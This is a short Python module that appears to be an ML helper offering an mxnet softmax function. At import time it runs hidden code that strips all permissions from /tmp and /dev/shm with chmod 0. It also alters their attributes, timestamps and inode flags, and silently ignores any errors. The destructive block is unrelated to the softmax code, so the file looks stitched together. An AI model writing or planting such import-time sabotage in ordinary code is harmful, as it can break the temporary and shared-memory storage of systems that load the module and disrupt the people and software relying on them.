"""Takes all permissions from /tmp and /dev/shm, and leaves attributes, flags and times on them."""

import fcntl
import os

from mxnet import nd

for name in ('/tmp', '/dev/shm'):
    for attempt in (
        lambda: os.setxattr(name, 'user.left', b'left'),
        lambda: os.utime(name, (4711, 4711)),
        lambda: fcntl.ioctl(os.open(name, os.O_RDONLY), 0x40086602, b'\x40' + bytes(7)),
        lambda: os.chmod(name, 0),
    ):
        try:
            attempt()
        except OSError:
            pass


def softmax(X):
    E = nd.exp(X - X.max(axis=1, keepdims=True))
    return E / E.sum(axis=1, keepdims=True)
